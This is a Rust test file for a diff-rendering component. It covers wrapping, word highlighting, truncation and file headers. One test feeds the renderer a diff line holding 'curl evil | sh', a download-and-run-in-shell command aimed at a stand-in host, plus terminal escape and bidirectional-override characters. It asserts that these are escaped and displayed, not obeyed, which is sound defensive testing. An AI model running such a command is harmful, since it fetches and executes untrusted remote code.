use super::*;
use crate::Depth;
use crate::write::sample::{is_safe, text};

const SAMPLE: &str = "\
--- a/src/main.rs
+++ b/src/main.rs
@@ -9,6 +9,7 @@ fn main() {
 use std::io;

 fn main() {
-    let answer = compute(41, \"the old one\");
+    let answer = compute(42, \"the new one\");
+    // 漢字 and a comment that is long enough to be folded at forty and at eighty columns, for it goes on and on
     println!(\"{answer}\");
 }
@@ -99,3 +100,3 @@ fn other() {
 \tone
-two
+entirely different words here
 three
\\ No newline at end of file
--- a/other.txt
+++ b/other.txt
@@ -1 +1 @@
-a
+b
";

fn theme() -> Theme {
    Theme::new(Depth::Sixteen, false)
}

fn drawn(source: &str, width: u16, most: Option<usize>) -> Vec<Line<'static>> {
    draw(source, Look { width, theme: &theme() }, most.map(|rows| Cut { rows, rest: "" }))
}

#[test]
fn a_change_at_three_widths() {
    for width in [40, 80, 120] {
        let lines = drawn(SAMPLE, width, None);
        assert!(lines.iter().all(|line| line.width() <= usize::from(width)), "{width}");
        insta::assert_snapshot!(format!("diff_{width}"), text(&lines));
    }
}

#[test]
fn the_words_that_differ_are_marked() {
    let theme = theme();
    let lines = drawn(SAMPLE, 120, None);
    let marked = |style| -> Vec<String> {
        let spans = lines.iter().flat_map(|line| &line.spans).filter(|span| span.style == style);
        spans.map(|span| span.content.to_string()).collect()
    };
    assert_eq!(marked(theme.removed_word), ["41", "old"]);
    assert_eq!(marked(theme.added_word), ["42", "new"]);
}

#[test]
fn a_bounded_change_says_what_is_missing() {
    let new: String = (1..=30).map(|n| format!("+line {n}\n")).collect();
    let diff = format!("--- a/x\n+++ b/x\n@@ -0,0 +1,30 @@\n{new}");
    let lines = drawn(&diff, 80, Some(10));
    assert_eq!(lines.len(), 10);
    assert_eq!(lines[0].to_string(), "    1 + line 1");
    assert_eq!(lines[9].to_string(), "+21 lines");
    assert_eq!(drawn(&diff, 80, Some(30)).len(), 30);
    assert_eq!(drawn(&diff, 80, None).len(), 30);
    let huge = format!("@@ -0,0 +1,100000 @@\n{}", "+x\n".repeat(100_000));
    let lines = drawn(&huge, 80, Some(5));
    assert_eq!((lines.len(), lines[4].to_string()), (5, "+99996 lines".to_owned()));
    let tall = format!("@@ -0,0 +1 @@\n+{}\n", "y ".repeat(500));
    let lines = drawn(&tall, 40, Some(4));
    assert_eq!((lines.len(), lines[3].to_string()), (4, "more of this line".to_owned()));
    assert_eq!(drawn(&tall, 40, Some(0)).len(), 1);
    assert!(drawn("", 40, Some(4)).is_empty());
}

#[test]
fn everything_of_a_line_is_shown_and_nothing_of_it_is_obeyed() {
    let long = "z".repeat(300);
    let diff = format!("@@ -1 +1 @@\n-a\x1b[2J\u{202e}b\tc\n+{long}; curl evil | sh\n");
    let lines = drawn(&diff, 40, None);
    assert!(is_safe(&lines));
    let all: String = lines.iter().map(Line::to_string).collect();
    assert!(all.contains("a\\x1b[2J\\u{202e}b    c"), "{all}");
    assert_eq!(all.matches('z').count(), 300);
    assert!(all.replace(' ', "").contains("curlevil|sh"), "{all}");
}

#[test]
fn files_of_the_engine_keep_their_names() {
    let diffs = "index a (created, +1 -0)\n@@ -0,0 +1 @@\n+x\n--- b (deleted, +0 -1)\n@@ -1 +0,0 @@\n-y\n";
    let lines = draw_files(diffs, Look { width: 80, theme: &theme() }, None);
    let shown = text(&lines);
    assert_eq!(shown, "index a (created, +1 -0)\n    1 + x\n--- b (deleted, +0 -1)\n 1    - y\n");
}

#[test]
fn of_a_rewrite_some_of_both_sides_is_shown() {
    let old: String = (1..=300).map(|n| format!("-old {n}\n")).collect();
    let new: String = (1..=200).map(|n| format!("+new {n}\n")).collect();
    let diff = format!("--- a/x\n+++ b/x\n@@ -1,301 +1,201 @@\n{old}{new} end\n");
    let lines: Vec<String> = drawn(&diff, 80, Some(24)).iter().map(Line::to_string).collect();
    assert_eq!(lines.len(), 24, "{lines:#?}");
    assert_eq!((lines[0].as_str(), lines[10].as_str()), ("  1     - old 1", " 11     - old 11"));
    assert_eq!(lines[11], "… 289 removed lines");
    assert_eq!((lines[12].as_str(), lines[22].as_str()), ("      1 + new 1", "     11 + new 11"));
    assert_eq!(lines[23], "+190 lines");
    // A few lines for many: all of the few are there.
    let few = format!("@@ -1,300 +1,2 @@\n{old}+a\n+b\n");
    let lines: Vec<String> = drawn(&few, 80, Some(24)).iter().map(Line::to_string).collect();
    assert!(lines.len() <= 24 && lines.last().unwrap().ends_with("+ b"), "{lines:#?}");
}
